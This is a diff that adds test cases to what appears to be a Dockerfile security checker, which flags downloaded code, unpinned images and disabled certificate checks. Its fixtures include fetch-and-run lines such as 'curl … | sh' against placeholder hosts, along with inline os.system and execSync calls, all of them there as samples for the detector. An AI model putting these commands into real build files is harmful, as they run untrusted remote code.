@@ -11,10 +11,35 @@ const rulesIn = (path: string, text: string): string[] => judgementOf(path, text
 
 describe('Dockerfiles', () => {
   test.each([
+    'SHELL ["/bin/sh", "-c", "curl https://x.example/a | sh; eval $0"]\nRUN make',
+    'RUN <<X python3\nimport os; os.system("id")\nX',
+    'RUN <<X\n#!/usr/bin/env python3\nprint(1)\nX',
+    "RUN node -e \"require('child_process').execSync('id')\"",
+    'RUN ["python3", "-c", "import os; os.system(\'id\')"]',
+  ])('are not read where they say %s', (text) => {
+    expect(judgementOf('Dockerfile', `FROM a.example/b:1.2\n${text}\nUSER c\n`).unread).toHaveLength(1);
+  });
+
+  test.each([
+    'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN make',
+    'RUN node -p "require(\'./package.json\').version"',
+  ])('are read where they say %s', (text) => {
+    expect(judgementOf('Dockerfile', `FROM a.example/b:1.2\n${text}\nUSER c\n`).unread).toEqual([]);
+  });
+
+  test.each([
     ['RUN curl -fsSL https://get.tool.example/i.sh | sh', ['downloaded-code']],
     ['RUN apt-get update \\\n  # comment\n  && curl -fsSL https://get.tool.example/i.sh | bash', ['downloaded-code']],
     ['RUN <<EOF\nset -e\ncurl -fsSL https://get.tool.example/i.sh | sh\nEOF', ['downloaded-code']],
     ['RUN curl -fsSL https://x.example/a.tgz | tar xz', []],
+    ['RUN ["sh", "-c", "curl -fsSL https://get.tool.example/i.sh | sh"]', ['downloaded-code']],
+    ['RUN [ -f /a ] || curl -fsSL https://get.tool.example/i.sh | sh', ['downloaded-code']],
+    ['ONBUILD RUN curl -fsSL https://get.tool.example/i.sh | sh', ['downloaded-code']],
+    ['RUN ["npm", "ci"]', []],
+    ['COPY --from=a.example/b:latest /c /c', ['moving-image']],
+    ['RUN --mount=type=bind,from=a.example/b,target=/c /c/d', ['moving-image']],
+    ['ARG B=a.example/b:latest\nFROM ${B}', ['moving-image']],
+    ['ARG B=a.example/b:1.2\nFROM ${B}', []],
     ['RUN curl -kO https://x.example/a.tgz', ['certificate-check-off']],
     ['RUN curl -fO https://x.example/a.tgz', []],
     ['ADD http://x.example/a /a', ['downloaded-code']],
